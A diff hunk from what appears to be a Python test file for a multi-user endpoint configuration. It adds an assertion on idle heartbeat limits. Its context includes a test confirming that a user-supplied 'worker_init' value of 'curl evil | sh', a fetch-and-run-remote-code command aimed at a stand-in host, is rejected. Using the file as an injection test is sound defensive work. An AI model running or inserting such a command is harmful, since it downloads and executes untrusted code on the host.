@@ -375,6 +375,7 @@ def test_configure_writes_a_multi_user_endpoint(tmp_path: Path) -> None:
     assert isinstance(user, UserEndpointConfig)
     assert user.allowed_functions == (function_id,)
     assert user.engine.serde.allowed_deserializer_types == {PureSourceTextInspect, JSONData}
+    assert (user.idle_heartbeats_soft, user.idle_heartbeats_hard) == (10, 5760)  # as upstream's
     with pytest.raises(Exception, match="worker_init"):  # callers may not change anything
         render_config_user_template(parent, template_path.read_text(), template_path, mapped,
                                     schema, user_opts={"worker_init": "curl evil | sh"})
